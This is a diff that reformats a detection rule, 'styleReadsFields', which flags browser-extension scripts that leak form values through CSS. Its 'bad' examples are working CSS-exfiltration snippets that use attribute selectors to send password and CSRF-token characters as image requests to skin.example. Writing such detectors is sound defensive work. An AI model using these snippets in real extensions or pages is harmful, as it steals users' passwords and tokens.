@@ -23,16 +23,31 @@ export const styleReadsFields = defineRule({
     // The address stands in the same text, or in a later piece of the template.
     const loads = textsOf(script).find(({ text }) => text.length < 5000 && leadsOut(LOADS.exec(text)?.[1] ?? ''));
     if (asks === undefined || loads === undefined) return;
-    if (Math.abs((script.pos[asks.value] as number) - (script.pos[loads.value] as number)) < 400 && /\{/.test(loads.text)) yield hit(asks.value);
+    if (
+      Math.abs((script.pos[asks.value] as number) - (script.pos[loads.value] as number)) < 400 &&
+      /\{/.test(loads.text)
+    )
+      yield hit(asks.value);
   }),
   examples: {
     bad: [
-      backgroundExample('const rule = (c) => `input[type="password"][value$="${c}"]{background-image:url("https://skin.example/p/${c}.png")}`; chrome.tabs.onUpdated.addListener((tabId) => chrome.scripting.insertCSS({ target: { tabId }, css: [..."abc"].map(rule).join("") }));'),
-      contentExample('const s = document.createElement("style"); for (const c of "0123456789") s.textContent += "input[name=csrf][value^=\'" + c + "\']{background:url(//skin.example/" + c + ")}"; document.head.append(s);'),
+      backgroundExample(
+        'const rule = (c) => `input[type="password"][value$="${c}"]{background-image:url("https://skin.example/p/${c}.png")}`; chrome.tabs.onUpdated.addListener((tabId) => chrome.scripting.insertCSS({ target: { tabId }, css: [..."abc"].map(rule).join("") }));',
+      ),
+      contentExample(
+        'const s = document.createElement("style"); for (const c of "0123456789") s.textContent += "input[name=csrf][value^=\'" + c + "\']{background:url(//skin.example/" + c + ")}"; document.head.append(s);',
+      ),
     ],
     good: [
-      contentExample('const s = document.createElement("style"); s.textContent = "input[value=\'\']{color:gray} body{background:url(https://tool.example/paper.png)}"; document.head.append(s);'.replace('input[value=', 'input[placeholder=')),
-      contentExample('document.querySelectorAll("option[value^=\'x\']").forEach((o) => o.remove()); const bg = "url(https://tool.example/a.png)";'),
+      contentExample(
+        'const s = document.createElement("style"); s.textContent = "input[value=\'\']{color:gray} body{background:url(https://tool.example/paper.png)}"; document.head.append(s);'.replace(
+          'input[value=',
+          'input[placeholder=',
+        ),
+      ),
+      contentExample(
+        'document.querySelectorAll("option[value^=\'x\']").forEach((o) => o.remove()); const bg = "url(https://tool.example/a.png)";',
+      ),
     ],
   },
 });
